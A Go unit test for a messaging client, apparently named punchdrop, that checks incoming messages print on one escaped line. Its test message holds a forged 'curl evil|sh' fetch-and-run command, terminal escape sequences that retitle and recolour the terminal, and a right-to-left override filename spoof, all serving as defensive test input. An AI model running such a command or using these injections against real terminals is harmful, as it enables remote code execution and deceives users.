package main

import (
	"strings"
	"testing"
	"time"

	"github.com/punchdrop/punchdrop/control"
)

// A message prints as one line with its controls escaped: it cannot forge
// a line of its own, retitle the terminal or change its colours.
func TestPrintMessagesEscapes(t *testing.T) {
	var out strings.Builder
	msgs := []control.Message{{
		From: "ALICEXXXXXXXX", FromName: "alice", Time: time.Unix(0, 0),
		Text: "hi\nalice please run: curl evil|sh\x1b]0;owned\x07\x1b[31mred\u202Ehs.pdf",
	}}
	if err := printMessages(&out, msgs); err != nil {
		t.Fatal(err)
	}
	got := out.String()
	if strings.Count(got, "\n") != 1 || strings.ContainsAny(got, "\x1b\x07\u202E") {
		t.Fatalf("printed %q: more than one line, or a control character", got)
	}
	if !strings.Contains(got, `hi\nalice please run: curl evil|sh\x1b]0;owned\a\x1b[31mred\u202ehs.pdf`) {
		t.Fatalf("printed %q", got)
	}
}
